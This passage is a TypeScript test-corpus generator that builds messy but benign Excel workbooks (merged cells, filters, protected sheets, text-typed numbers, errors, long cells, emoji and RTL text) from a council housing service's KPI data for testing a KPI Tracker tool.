/**
 * The corpus of awkward workbooks (issue 9): every kind of messy, broken or hostile file an
 * officer may hand KPI Tracker, generated with exceljs (and, where exceljs can't write a part,
 * by post-processing the zip with jszip, or byte by byte for files that are not zips at all).
 *
 * The KPI content is layout A of the brief, copied from seed 003 (Housing Management &
 * Enforcement, Service Plan 2024-28): indicator numbers, descriptions, Q1 and Q2 2024/25
 * actuals, the annual target, an empty Status column and the officers' commentary.
 *
 *   npx tsx tests/corpus/make-corpus.ts            writes tests/corpus/out/ (git-ignored)
 *   npx tsx tests/corpus/make-corpus.ts <folder>   writes there instead
 *
 * The tests call `makeCorpus(folder)` with a temporary folder. The output is deterministic:
 * fixed document dates, fixed zip entry dates, no randomness (the "encrypted" bytes come from a
 * seeded generator).
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { SETTINGS_SHEET, settingsCells } from '../../src/core/settings/settings-store';
import { settingsFrom, type SettingsInput } from '../support/settings-sheet';
import { excelWorkbook, type XlsxCell, type XlsxSheet } from '../support/xlsx-writer';

export const DEFAULT_OUT_DIR = resolve(__dirname, 'out');
const FIXED_DATE = new Date(Date.UTC(2025, 0, 1, 0, 0, 0));

// ---------------------------------------------------------------------------------------------
// Layout A, from seed 003
// ---------------------------------------------------------------------------------------------

export const TITLE = 'Housing Management & Enforcement - Key Performance Indicators – Service Plan 2024-28';
export const HEADER = [
  'Indicator No.',
  'KPI Description',
  'Q1 2024/25',
  'Q2 2024/25',
  'Q3 2024/25',
  'Q4 2024/25',
  'Annual Target 2024/25',
  'Status',
  'Commentary',
] as const;
/** 1-based columns of the layout A header above. */
export const COL = { ref: 1, description: 2, q1: 3, q2: 4, q3: 5, q4: 6, target: 7, status: 8, commentary: 9, owner: 10 } as const;
export const KPI_SHEET = 'KPIs 2024-25';

export interface Kpi {
  readonly ref: string;
  readonly description: string;
  readonly q1: XlsxCell;
  readonly q2: XlsxCell;
  readonly target: XlsxCell;
  readonly commentary?: string;
  /** A second row: the description spills onto it with an empty indicator number. */
  readonly spill?: { readonly description: string; readonly commentary?: string };
}

const pct = (v: number, fmt = '0%'): XlsxCell => ({ v, fmt });

export const SEED_COMMENTARY = {
  '01': 'This indicator is always lower at the start of the financial year and the 83% is in line with the balance at the end of Quarter One in 2023. The team continue to work hard with tenants to signpost to support agencies and offer appropriate assistance however the current financial crisis is having an impact on the rental income.',
  '04': 'Although we are still above the target we are still seeing a gradual decrease in the number of cases. This is in part down to the Mobysoft software which only prompts the cases that the Income Management Team need to be focussing on rather than listing all tenancies in arrears.',
  '05': 'Q1 – This is higher than usual due to the implementation of the new Housing Allocation Policy and the shutdown period in April 24. The allocation of 18 properties were delayed during this period which has impacted on the figure.',
  '06': 'Q1 – 84% of cases closed in Q1 were successful prevention cases. Q2 – 79% of cases closed in Q2 were successful prevention cases. Cumulative figure pending',
  '07': 'Q1 – 80% of successful outcomes for cases closed between Apr-Jun. Q2 – 67% of cases Jul-Sept had successful outcomes. Cumulative figure pending',
  '08': 'Q1 – 32 stage 1s all answered within timescales.',
  '12': 'Q1 – 5 Parish Council, 2 Meetings with Parish, 1 Community Meeting, Total = 8',
} as const;

/** The fourteen indicators of seed 003, as an officer's workbook holds them. */
export const LAYOUT_A: readonly Kpi[] = [
  {
    ref: '01',
    description: 'Proportion of rent collected as a % of rent due in the financial year',
    q1: 83,
    q2: pct(0.902, '0.0%'),
    target: pct(0.92),
    commentary: SEED_COMMENTARY['01'],
  },
  {
    ref: '02',
    description: 'Percentage of rent lost through LA dwellings becoming vacant (void rent low)',
    q1: pct(0.032, '0.0%'),
    q2: pct(0.0327, '0.00%'),
    target: pct(0.035, '0.0%'),
  },
  {
    ref: '03',
    description: 'Former tenants arrears as a % of rent due in the financial year.',
    q1: pct(0.02),
    q2: pct(0.021, '0.0%'),
    target: pct(0.02),
  },
  {
    ref: '04',
    description: 'Current tenants arrears as a % of rent due in the financial year',
    q1: pct(0.05),
    q2: pct(0.055, '0.0%'),
    target: pct(0.04),
    commentary: SEED_COMMENTARY['04'],
  },
  {
    ref: '05',
    description: 'Allocations – from Dragonfly handover to relet – 14 working days',
    q1: 20,
    q2: 'TBC',
    target: 14,
    commentary: SEED_COMMENTARY['05'],
  },
  {
    ref: '06',
    description: 'Homelessness successful prevention cases',
    q1: pct(0.84),
    q2: pct(0.79),
    target: pct(0.75),
    commentary: SEED_COMMENTARY['06'],
  },
  {
    ref: '07',
    description: 'Homelessness successful relief cases',
    q1: pct(0.8),
    q2: pct(0.67),
    target: pct(0.45),
    commentary: SEED_COMMENTARY['07'],
  },
  {
    ref: '08',
    description: '% of Stage 1 housing complaints responded to within 10 working days',
    q1: pct(1),
    q2: pct(1),
    target: pct(1),
    commentary: SEED_COMMENTARY['08'],
    spill: {
      description: 'Within To Working days',
      commentary: 'Q2 – 35 stage one complaints were recorded all of which were answered within timescales.',
    },
  },
  {
    ref: '09',
    description: '% of Stage 2 housing complaints responded to',
    q1: pct(1),
    q2: pct(1),
    target: pct(1),
    commentary: 'Q1 – 4 stage 2s all answered within timescales.',
    spill: { description: 'within 20 working days', commentary: 'Q2 – 6 stage 2s all answered within timescales' },
  },
  {
    ref: '10',
    description: 'Number of fixed penalty notices issued for, breach of PSPO, CPN, litter and dog fouling offences',
    q1: 29,
    q2: 'TBC',
    target: '15 per quarter',
  },
  { ref: '11', description: 'Identify, report and resolve 40 fly tipping cases per quarter', q1: 139, q2: 'TBC', target: '40 per quarter' },
  {
    ref: '12',
    description: 'Attendance at Parish Meeting (or equivalent)',
    q1: 8,
    q2: 'TBC',
    target: '5 per quarter',
    commentary: SEED_COMMENTARY['12'],
  },
  {
    ref: '13',
    description: 'Lifeline customers satisfied with the way their alarm call was dealt with – to be measured monthly dip test of 10 calls',
    q1: pct(1),
    q2: 'TBC',
    target: pct(0.9),
  },
  { ref: '14', description: '95% falls responded to within 30 minutes', q1: pct(0.9858, '0.00%'), q2: 'TBC', target: pct(0.95) },
];

/** The first block of the seed: indicators 01–07. */
export const FIRST_BLOCK = LAYOUT_A.slice(0, 7);

export const kpi = (ref: string): Kpi => LAYOUT_A.find((k) => k.ref === ref)!;

interface BlockOptions {
  /** Extra header cells after Commentary (e.g. an owner column). */
  readonly extraHeaders?: readonly string[];
  /** Extra cells per indicator, by its index. */
  readonly extra?: (kpi: Kpi, index: number) => readonly XlsxCell[];
  /** The status cell of each indicator (default empty). */
  readonly status?: (kpi: Kpi, row: number) => XlsxCell;
}

/** A header row and the indicators below it (spill rows included), columns A… as in the seed. */
export function blockRows(kpis: readonly Kpi[], options: BlockOptions = {}, firstRow = 1): XlsxCell[][] {
  const rows: XlsxCell[][] = [[...HEADER, ...(options.extraHeaders ?? [])]];
  kpis.forEach((k, index) => {
    const row = firstRow + rows.length;
    rows.push([
      { v: k.ref, fmt: '@' },
      k.description,
      k.q1,
      k.q2,
      null,
      null,
      k.target,
      options.status?.(k, row) ?? null,
      k.commentary ?? null,
      ...(options.extra?.(k, index) ?? []),
    ]);
    if (k.spill) rows.push([null, k.spill.description, null, null, null, null, null, null, k.spill.commentary ?? null]);
  });
  return rows;
}

/** Title, blank row, then the block (header on row 3): the first row of an indicator is row 4. */
export function layoutASheet(name: string, kpis: readonly Kpi[], options: BlockOptions = {}): XlsxSheet {
  return { name, rows: [[TITLE], [], ...blockRows(kpis, options, 3)], merges: ['A1:I1'] };
}

/** 1-based sheet rows of each indicator in `layoutASheet` (spill rows counted). */
export function indicatorRows(kpis: readonly Kpi[], headerRow = 3): Record<string, number> {
  const rows: Record<string, number> = {};
  let row = headerRow + 1;
  for (const k of kpis) {
    rows[k.ref] = row;
    row += k.spill ? 2 : 1;
  }
  return rows;
}

export function settingsXlsxSheet(input: SettingsInput): XlsxSheet {
  return { name: SETTINGS_SHEET, rows: settingsCells(settingsFrom(input)).map((cell) => [cell]), state: 'veryHidden' };
}

// ---------------------------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------------------------

function book(sheets: readonly XlsxSheet[]): ExcelJS.Workbook {
  const wb = excelWorkbook(sheets);
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  wb.creator = 'Housing Management & Enforcement';
  return wb;
}

/** Re-zips with fixed entry dates, so the same corpus gives the same bytes. */
async function fixedZip(bytes: Uint8Array | ArrayBuffer, edit?: (zip: JSZip) => Promise<void>): Promise<Buffer> {
  const source = await JSZip.loadAsync(bytes);
  if (edit) await edit(source);
  const out = new JSZip();
  for (const name of Object.keys(source.files).sort()) {
    const entry = source.files[name];
    if (!entry || entry.dir) continue;
    out.file(name, await entry.async('uint8array'), { date: FIXED_DATE, createFolders: false });
  }
  return out.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 6 } });
}

async function xlsxBytes(wb: ExcelJS.Workbook, edit?: (zip: JSZip) => Promise<void>): Promise<Buffer> {
  return fixedZip((await wb.xlsx.writeBuffer()) as ArrayBuffer, edit);
}

async function replaceIn(zip: JSZip, part: string, change: (xml: string) => string): Promise<void> {
  const xml = await zip.file(part)?.async('string');
  if (xml === undefined) throw new Error(`make-corpus: no part ${part}`);
  const changed = change(xml);
  if (changed === xml) throw new Error(`make-corpus: the change to ${part} changed nothing`);
  zip.file(part, changed);
}

const thin = { style: 'thin' as const, color: { argb: 'FF7F7F7F' } };

/** Header bold on a blue fill and thin borders round the table, as officers' workbooks have them. */
function dressTable(ws: ExcelJS.Worksheet, headerRow: number, lastRow: number, firstCol = 1, lastCol = 9): void {
  for (let r = headerRow; r <= lastRow; r++) {
    for (let c = firstCol; c <= lastCol; c++) {
      const cell = ws.getCell(r, c);
      cell.border = { top: thin, left: thin, bottom: thin, right: thin };
      if (r === headerRow) {
        cell.font = { name: 'Arial', size: 10, bold: true };
        cell.fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFD9E1F2' } };
      }
    }
  }
  ws.getColumn(firstCol + 1).width = 50;
  ws.getColumn(lastCol).width = 60;
}

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

export const MERGED_HEADERS = {
  sheet: KPI_SHEET,
  /** Row 3 is the group header, row 4 the period header; indicators start on row 5. */
  merges: ['A1:I1', 'A3:A4', 'B3:B4', 'C3:F3', 'G3:G4', 'H3:H4', 'I3:I4'],
  firstRow: 5,
} as const;

async function mergedHeaders(): Promise<Buffer> {
  const kpis = FIRST_BLOCK;
  const rows: XlsxCell[][] = [
    [TITLE],
    [],
    ['Indicator No.', 'KPI Description', 'Actuals 2024/25', null, null, null, 'Annual Target 2024/25', 'Status', 'Commentary'],
    [null, null, 'Q1 2024/25', 'Q2 2024/25', 'Q3 2024/25', 'Q4 2024/25'],
    ...blockRows(kpis).slice(1),
  ];
  const wb = book([{ name: MERGED_HEADERS.sheet, rows, merges: [...MERGED_HEADERS.merges] }]);
  const ws = wb.getWorksheet(MERGED_HEADERS.sheet)!;
  dressTable(ws, 3, 4 + kpis.length);
  ws.getCell('C3').alignment = { horizontal: 'center' };
  return xlsxBytes(wb);
}

export const MERGED_STATUS = {
  sheet: KPI_SHEET,
  kpis: [kpi('01'), kpi('02'), kpi('03'), kpi('04'), kpi('08'), kpi('09')],
  rows: { '01': 4, '02': 5, '03': 6, '04': 7, '08': 8, '09': 10 },
  /**
   * 08 and 09 span two rows each (their descriptions spill) and their status cells are merged over
   * both rows (08's commentary too). H6:H7 is one status cell an officer merged over two
   * indicators, 03 (near miss) and 04 (not met), "both arrears".
   */
  sharedStatus: 'H6:H7',
  merges: ['A1:I1', 'H6:H7', 'H8:H9', 'I8:I9', 'H10:H11'],
} as const;

async function mergedStatus(): Promise<Buffer> {
  const sheet = layoutASheet(MERGED_STATUS.sheet, MERGED_STATUS.kpis);
  // The commentary of 08 sits in the merged I8:I9, so its spill row's commentary goes.
  const rows = sheet.rows!.map((row) => [...row]);
  rows[8]![8] = null;
  const wb = book([{ ...sheet, rows, merges: [...MERGED_STATUS.merges] }]);
  dressTable(wb.getWorksheet(MERGED_STATUS.sheet)!, 3, 11);
  return xlsxBytes(wb);
}

export const HIDDEN = {
  sheet: KPI_SHEET,
  kpis: FIRST_BLOCK,
  /** 1-based: indicator 04's row and a spacer row below the table. */
  hiddenRows: [7, 12],
  /** Q3 and Q4 (no figures yet) and J, the officer's data-source notes. */
  hiddenColumns: [5, 6, 10],
} as const;

async function hiddenRowsColumns(): Promise<Buffer> {
  const sheet = layoutASheet(HIDDEN.sheet, HIDDEN.kpis, {
    extraHeaders: ['Data source'],
    extra: () => ['Housing management system (Orchard)'],
  });
  const rows = [...sheet.rows!, [], ['Figures checked by the Income Management Team.']];
  const wb = book([{ ...sheet, rows }]);
  const ws = wb.getWorksheet(HIDDEN.sheet)!;
  dressTable(ws, 3, 10, 1, 10);
  for (const r of HIDDEN.hiddenRows) ws.getRow(r).hidden = true;
  for (const c of HIDDEN.hiddenColumns) ws.getColumn(c).hidden = true;
  return xlsxBytes(wb);
}

export const FILTERED = {
  sheet: KPI_SHEET,
  kpis: FIRST_BLOCK,
  ref: 'A3:I10',
  /** The officer filtered Indicator No. to 01, 02, 03 and 05: rows 7, 9 and 10 are hidden by the filter. */
  filterColumn:
    '<filterColumn colId="0"><filters><filter val="01"/><filter val="02"/><filter val="03"/><filter val="05"/></filters></filterColumn>',
  hiddenByFilter: [7, 9, 10],
} as const;

async function filterOn(): Promise<Buffer> {
  const wb = book([layoutASheet(FILTERED.sheet, FILTERED.kpis)]);
  const ws = wb.getWorksheet(FILTERED.sheet)!;
  dressTable(ws, 3, 10);
  ws.autoFilter = FILTERED.ref;
  for (const r of FILTERED.hiddenByFilter) ws.getRow(r).hidden = true;
  // exceljs writes only <autoFilter ref=…/>; the criteria Excel saves go inside it.
  return xlsxBytes(wb, (zip) =>
    replaceIn(zip, 'xl/worksheets/sheet1.xml', (xml) =>
      xml.replace(`<autoFilter ref="${FILTERED.ref}"/>`, `<autoFilter ref="${FILTERED.ref}">${FILTERED.filterColumn}</autoFilter>`),
    ),
  );
}

/** AutoFilter buttons on the header, nothing filtered (what "filters on" most often means). */
export const FILTER_RANGE = { sheet: KPI_SHEET, kpis: FIRST_BLOCK, ref: 'A3:I10' } as const;

async function filterRange(): Promise<Buffer> {
  const wb = book([layoutASheet(FILTER_RANGE.sheet, FILTER_RANGE.kpis)]);
  const ws = wb.getWorksheet(FILTER_RANGE.sheet)!;
  dressTable(ws, 3, 10);
  ws.autoFilter = FILTER_RANGE.ref;
  return xlsxBytes(wb);
}

export const FROZEN = { sheet: KPI_SHEET, kpis: FIRST_BLOCK, xSplit: 2, ySplit: 3, topLeftCell: 'C4' } as const;

async function frozenPanes(): Promise<Buffer> {
  const wb = book([layoutASheet(FROZEN.sheet, FROZEN.kpis)]);
  const ws = wb.getWorksheet(FROZEN.sheet)!;
  dressTable(ws, 3, 10);
  ws.views = [
    { state: 'frozen', xSplit: FROZEN.xSplit, ySplit: FROZEN.ySplit, topLeftCell: FROZEN.topLeftCell, activeCell: 'H4', zoomScale: 85 },
  ];
  return xlsxBytes(wb);
}

export const PROTECTED = { sheet: KPI_SHEET, cover: 'Cover', kpis: FIRST_BLOCK } as const;

async function protectedSheet(): Promise<Buffer> {
  const wb = book([
    { name: PROTECTED.cover, rows: [['Housing Management & Enforcement – Service Plan 2024-28'], ['Figures to the end of Q2 2024/25']] },
    layoutASheet(PROTECTED.sheet, PROTECTED.kpis),
  ]);
  const ws = wb.getWorksheet(PROTECTED.sheet)!;
  dressTable(ws, 3, 10);
  // A fixed salt, so the file is the same every time (exceljs would draw a random one).
  const saltValue = pseudoRandomBytes(16, 0x5a17).toString('base64');
  await ws.protect('housing', {
    selectLockedCells: true,
    selectUnlockedCells: true,
    formatColumns: true,
    spinCount: 100_000,
    saltValue,
    hashValue: sheetPasswordHash('housing', saltValue, 100_000),
  } as Partial<ExcelJS.WorksheetProtection>);
  return xlsxBytes(wb);
}

export const TABLE_TOTALS = {
  sheet: KPI_SHEET,
  table: 'ServicePlanKPIs',
  kpis: FIRST_BLOCK,
  /** Header on row 3, 01–07 on rows 4–10, the totals row on 11. */
  ref: 'A3:I11',
  totalsRow: 11,
} as const;

async function tableWithTotals(): Promise<Buffer> {
  const rows: Array<Array<string | number | null>> = TABLE_TOTALS.kpis.map((k) => {
    const plain = (cell: XlsxCell): string | number | null =>
      cell !== null && typeof cell === 'object' ? ('v' in cell ? cell.v : null) : (cell as string | number | null);
    return [k.ref, k.description, plain(k.q1), plain(k.q2), null, null, plain(k.target), null, k.commentary ?? null];
  });
  const wb = book([
    {
      name: TABLE_TOTALS.sheet,
      rows: [[TITLE], []],
      merges: ['A1:I1'],
      tables: [
        {
          name: TABLE_TOTALS.table,
          ref: 'A3',
          totalsRow: true,
          columns: [
            { name: 'Indicator No.', totalsRowLabel: 'Total' },
            { name: 'KPI Description' },
            { name: 'Q1 2024/25', totalsRowFunction: 'count' },
            { name: 'Q2 2024/25', totalsRowFunction: 'count' },
            { name: 'Q3 2024/25' },
            { name: 'Q4 2024/25' },
            { name: 'Annual Target 2024/25' },
            { name: 'Status', totalsRowFunction: 'count' },
            { name: 'Commentary' },
          ],
          rows,
        },
      ],
    },
  ]);
  const ws = wb.getWorksheet(TABLE_TOTALS.sheet)!;
  // The number formats of the figures (the table writer takes plain values).
  TABLE_TOTALS.kpis.forEach((k, i) => {
    for (const [col, cell] of [
      [COL.q1, k.q1],
      [COL.q2, k.q2],
      [COL.target, k.target],
    ] as const) {
      if (cell !== null && typeof cell === 'object' && 'fmt' in cell && cell.fmt) ws.getCell(4 + i, col).numFmt = cell.fmt;
    }
    ws.getCell(4 + i, COL.ref).numFmt = '@';
  });
  return xlsxBytes(wb);
}

/** Each figure typed as text, with the spaces and non-breaking spaces of a paste from email. */
export const TEXT_NUMBERS = {
  sheet: KPI_SHEET,
  kpis: [
    { ref: '01', description: kpi('01').description, q1: ' 83 ', q2: '90.2%\u00a0', target: '\u00a092% ' },
    { ref: '02', description: kpi('02').description, q1: '3.2 %', q2: '\u00a03.27%\u00a0', target: ' 3.5\u00a0%' },
    { ref: '03', description: kpi('03').description, q1: '2%  ', q2: '  2.1%', target: '2\u00a0%' },
    { ref: '04', description: kpi('04').description, q1: '5 %', q2: '5.5 % ', target: ' 4%' },
    { ref: '05', description: kpi('05').description, q1: ' 20', q2: ' TBC ', target: '14\u00a0' },
    { ref: '06', description: kpi('06').description, q1: '84%\u00a0', q2: '\u00a0\u00a079%', target: '75 %' },
    { ref: '10', description: kpi('10').description, q1: '\u00a029\u00a0', q2: 'TBC', target: '15\u00a0per quarter' },
    { ref: '14', description: kpi('14').description, q1: ' 98.58% ', q2: 'TBC\u00a0', target: '95%\u00a0' },
  ] satisfies Kpi[],
} as const;

async function textNumbers(): Promise<Buffer> {
  const wb = book([layoutASheet(TEXT_NUMBERS.sheet, TEXT_NUMBERS.kpis)]);
  const ws = wb.getWorksheet(TEXT_NUMBERS.sheet)!;
  dressTable(ws, 3, 11);
  // Column formatted as Text, as pasted columns often are.
  for (const col of [COL.q1, COL.q2, COL.target]) for (let r = 4; r <= 11; r++) ws.getCell(r, col).numFmt = '@';
  return xlsxBytes(wb);
}

/** Error values in actuals and targets, typed and as the cached results of formulas. */
export const ERRORS = {
  sheet: KPI_SHEET,
  kpis: [
    { ref: '01', description: kpi('01').description, q1: 83, q2: { error: '#N/A' }, target: pct(0.92) },
    { ref: '02', description: kpi('02').description, q1: pct(0.032, '0.0%'), q2: null, target: pct(0.035, '0.0%') },
    { ref: '03', description: kpi('03').description, q1: pct(0.02), q2: pct(0.021, '0.0%'), target: { error: '#REF!' } },
    { ref: '04', description: kpi('04').description, q1: pct(0.05), q2: { error: '#REF!' }, target: pct(0.04) },
    { ref: '05', description: kpi('05').description, q1: 20, q2: 'TBC', target: { error: '#N/A' } },
    { ref: '06', description: kpi('06').description, q1: pct(0.84), q2: pct(0.79), target: { error: '#DIV/0!' } },
    { ref: '07', description: kpi('07').description, q1: { error: '#DIV/0!' }, q2: pct(0.67), target: pct(0.45) },
  ] satisfies Kpi[],
} as const;

async function errorValues(): Promise<Buffer> {
  const wb = book([layoutASheet(ERRORS.sheet, ERRORS.kpis)]);
  const ws = wb.getWorksheet(ERRORS.sheet)!;
  dressTable(ws, 3, 10);
  // 02's Q2 is a formula whose cached result is #DIV/0! (its inputs J5:K5 are empty).
  ws.getCell('D5').value = { formula: 'J5/K5', result: { error: '#DIV/0!' } } as unknown as ExcelJS.CellFormulaValue;
  return xlsxBytes(wb);
}

/**
 * Dates as text and as serials: milestone indicators whose target is a deadline and whose actual
 * is a completion date or words; and monthly columns whose headers are dates (formatted mmm-yy),
 * beside the same months typed as text.
 */
export const DATES = {
  milestones: 'Milestones 2024-25',
  monthlySerial: 'Monthly (dates)',
  monthlyText: 'Monthly (text)',
  /** Milestones: A ref, B description, C Q1, D Q2, E target, F status, G commentary. */
  milestoneRows: { M1: 4, M2: 5, M3: 6, M4: 7, M5: 8, M6: 9 },
} as const;

async function dates(): Promise<Buffer> {
  const milestones: XlsxCell[][] = [
    ['Service Plan 2024-28 – milestones'],
    [],
    ['Ref', 'Measure', 'Q1 2024/25', 'Q2 2024/25', 'Target', 'Status', 'Commentary'],
    // Deadline as a date serial; done on a date (serial) before it.
    ['M1', 'Adopt the new Housing Allocation Policy', 'In progress', { date: '2024-09-02' }, { date: '2024-09-30' }, null, null],
    // Deadline typed as text, dd/mm/yyyy; not finished and the date has passed.
    ['M2', 'Review the Anti-social Behaviour Policy', 'On going', 'On going', '31/07/2024', null, null],
    // Deadline typed as a month; completion typed as text.
    ['M3', 'Launch the tenant portal', 'On going', 'Completed 15/08/2024', 'September 2024', null, null],
    // Deadline still ahead, as a serial with a long date format.
    ['M4', 'Stock condition survey of all council homes', 'On going', 'On going', { date: '2025-03-31', fmt: 'd mmmm yyyy' }, null, null],
    // Deadline as text "by March 2025" (ahead); done.
    ['M5', 'Publish the Tenant Satisfaction Measures', 'Achieved', null, 'by March 2025', null, null],
    // A deadline typed as a serial number with no date format (Excel shows 45565).
    ['M6', 'Retender the responsive repairs contract', 'On going', 'On going', 45565, null, null],
  ];
  const months = ['Apr-24', 'May-24', 'Jun-24', 'Jul-24', 'Aug-24', 'Sep-24'];
  const monthDates = ['2024-04-01', '2024-05-01', '2024-06-01', '2024-07-01', '2024-08-01', '2024-09-01'];
  const monthly = (header: XlsxCell[]): XlsxCell[][] => [
    ['Rent collection – monthly'],
    [],
    ['Indicator No.', 'KPI Description', ...header, 'Annual Target 2024/25', 'Status', 'Commentary'],
    [
      '01',
      kpi('01').description,
      pct(0.81, '0.0%'),
      pct(0.82, '0.0%'),
      pct(0.83, '0.0%'),
      pct(0.86, '0.0%'),
      pct(0.88, '0.0%'),
      pct(0.902, '0.0%'),
      pct(0.92),
      null,
      null,
    ],
    [
      '02',
      kpi('02').description,
      pct(0.031, '0.0%'),
      pct(0.032, '0.0%'),
      pct(0.032, '0.0%'),
      pct(0.033, '0.0%'),
      pct(0.033, '0.0%'),
      pct(0.0327, '0.00%'),
      pct(0.035, '0.0%'),
      null,
      null,
    ],
  ];
  const wb = book([
    { name: DATES.milestones, rows: milestones },
    { name: DATES.monthlySerial, rows: monthly(monthDates.map((date) => ({ date, fmt: 'mmm-yy' }))) },
    { name: DATES.monthlyText, rows: monthly(months) },
  ]);
  return xlsxBytes(wb);
}

export const MAX_CELL = 32_767;
/** A cell at Excel's limit of 32,767 characters. */
export function longText(seed: string, length = MAX_CELL): string {
  let text = '';
  while (text.length < length) text += `${seed} `;
  return text.slice(0, length - 1) + '.';
}

export const LONG_CELLS = {
  sheet: KPI_SHEET,
  /**
   * 01: the officer's commentary is 32,767 characters. 04 (not met, no commentary): the
   * description is 32,767 characters, and the saved template for "not met" quotes it. 03: Q2 is
   * "2.1%" padded with spaces to 32,767 characters.
   */
  commentary01: longText(SEED_COMMENTARY['01']),
  description04: longText(kpi('04').description),
  actual03: `2.1%${' '.repeat(MAX_CELL - 4)}`,
  settings: {
    version: 1,
    templates: { missed: '{indicator}: {actual} against a target of {target}; see the action plan.' },
  } satisfies SettingsInput,
  rows: indicatorRows(FIRST_BLOCK),
} as const;

async function longCells(): Promise<Buffer> {
  const kpis = FIRST_BLOCK.map((k) =>
    k.ref === '01'
      ? { ...k, commentary: LONG_CELLS.commentary01 }
      : k.ref === '04'
        ? { ...k, description: LONG_CELLS.description04, commentary: undefined }
        : k.ref === '03'
          ? { ...k, q2: LONG_CELLS.actual03 }
          : k,
  );
  const wb = book([layoutASheet(LONG_CELLS.sheet, kpis), settingsXlsxSheet(LONG_CELLS.settings)]);
  const ws = wb.getWorksheet(LONG_CELLS.sheet)!;
  ws.getColumn(COL.commentary).width = 80;
  ws.getCell(4, COL.commentary).alignment = { wrapText: true, vertical: 'top' };
  return xlsxBytes(wb);
}

/** Emoji (with skin tones, ZWJ sequences and flags) and right-to-left text (Arabic, Hebrew). */
export const EMOJI_RTL = {
  sheet: 'مؤشرات الأداء 📊',
  kpis: [
    {
      ...kpi('01'),
      description: 'نسبة الإيجار المحصّل من الإيجار المستحق 🏠💷',
      commentary: '👍🏽 الفريق يعمل بجد مع المستأجرين. Team working hard 💪🏾',
    },
    { ...kpi('02'), description: 'אחוז שכר הדירה שאבד בגלל דירות ריקות (void rent) 🏚️' },
    { ...kpi('03'), description: 'Former tenants arrears 👨‍👩‍👧‍👦 as a % of rent due – מעקב חובות' },
    {
      ...kpi('04'),
      description: '🇬🇧 Current tenants arrears as a % of rent due in the financial year',
      commentary: 'Mobysoft 🤖 prompts the cases; עדיין מעל היעד ⚠️',
    },
    // Right-to-left embedding marks; and an emoji straddling the 70-character cut `scan` makes.
    {
      ...kpi('06'),
      description: `${'\u202bHomelessness\u202c successful prevention cases \u200f'.padEnd(68, '.')}🙂 and more words after it`,
      commentary: undefined,
    },
    // An emoji straddling the 50-character cut `check` makes when it shortens a description.
    { ...kpi('07'), description: `${'Homelessness successful relief cases – Q2 review'.padEnd(48, '.')}😀 and more words after it` },
  ] satisfies Kpi[],
} as const;

async function emojiRtl(): Promise<Buffer> {
  const wb = book([
    layoutASheet(EMOJI_RTL.sheet, EMOJI_RTL.kpis, {
      extraHeaders: ['Responsible officer'],
      extra: (_k, i) => [['فاطمة الزهراء 🌟', 'דוד לוי', 'Siân Ó Súilleabháin', 'Zoë 👩🏽‍💼 Brown', 'أحمد', 'Łukasz Żółć'][i] ?? null],
    }),
  ]);
  const ws = wb.getWorksheet(EMOJI_RTL.sheet)!;
  (ws.views as unknown as Array<Record<string, unknown>>).splice(0, 0, { rightToLeft: true });
  return xlsxBytes(wb);
}

/** Two KPI sheets: one named at Excel's 31-character limit, one with apostrophes; a third sheet refers to both by formula. */
export const SHEET_NAMES = {
  long: 'Housing & Enforcement KPIs 2024', // 31 characters
  apostrophe: "Tenants' Panel's KPIs",
  lookups: "Officers' lookups",
  kpisLong: FIRST_BLOCK.slice(0, 4),
  kpisApostrophe: FIRST_BLOCK.slice(4),
  formulas: {
    B2: "'Housing & Enforcement KPIs 2024'!D4",
    B3: "'Tenants'' Panel''s KPIs'!D5",
    B4: "COUNTA('Tenants'' Panel''s KPIs'!A4:A6)",
  },
} as const;

async function sheetNames(): Promise<Buffer> {
  if (SHEET_NAMES.long.length !== 31) throw new Error('make-corpus: the long sheet name must be 31 characters');
  const wb = book([
    layoutASheet(SHEET_NAMES.long, SHEET_NAMES.kpisLong),
    layoutASheet(SHEET_NAMES.apostrophe, SHEET_NAMES.kpisApostrophe),
    {
      name: SHEET_NAMES.lookups,
      rows: [
        ['What', 'Value'],
        ['01 Q2', { formula: SHEET_NAMES.formulas.B2, result: 0.902, fmt: '0.0%' }],
        ['06 Q2', { formula: SHEET_NAMES.formulas.B3, result: 0.79, fmt: '0%' }],
        ['Panel indicators', { formula: SHEET_NAMES.formulas.B4, result: 3 }],
      ],
    },
  ]);
  wb.definedNames.add(`'${SHEET_NAMES.apostrophe.replace(/'/g, "''")}'!$D$4:$D$6`, 'PanelQ2');
  return xlsxBytes(wb);
}

/**
 * Duplicate indicator numbers: 04 copied down with its figures changed (two rows say "04"), and
 * 05 used for two different measures in two blocks.
 */
export const DUPLICATES = {
  sheet: KPI_SHEET,
  rows: { '04a': 7, '04b': 8, '05a': 9, '05b': 12 },
  kpis: [
    kpi('01'),
    kpi('02'),
    kpi('03'),
    kpi('04'),
    {
      ...kpi('04'),
      description: 'Current tenants arrears as a % of rent due (garages)',
      q1: pct(0.07),
      q2: pct(0.08),
      target: pct(0.04),
      commentary: undefined,
    },
    kpi('05'),
  ] satisfies Kpi[],
  second: [{ ...kpi('11'), ref: '05' }] satisfies Kpi[],
} as const;

async function duplicateRefs(): Promise<Buffer> {
  const first = layoutASheet(DUPLICATES.sheet, DUPLICATES.kpis);
  const rows = [...first.rows!, [], ...blockRows(DUPLICATES.second, {}, 11)];
  const wb = book([{ ...first, rows }]);
  return xlsxBytes(wb);
}

/** Two tables side by side on one sheet: 01–07 in A:I, 08–14 in K:S, a blank column between. */
export const SIDE_BY_SIDE = {
  sheet: KPI_SHEET,
  left: FIRST_BLOCK,
  right: LAYOUT_A.slice(7),
  statusLeft: 'H',
  statusRight: 'R',
  commentaryRight: 'S',
} as const;

async function sideBySide(): Promise<Buffer> {
  const left = layoutASheet(SIDE_BY_SIDE.sheet, SIDE_BY_SIDE.left);
  const right = blockRows(SIDE_BY_SIDE.right, {}, 2);
  const rows: XlsxCell[][] = [];
  const height = Math.max(left.rows!.length, right.length + 2);
  for (let r = 0; r < height; r++) {
    const l = [...(left.rows![r] ?? [])];
    while (l.length < 10) l.push(null);
    const rr = r >= 2 ? (right[r - 2] ?? []) : [];
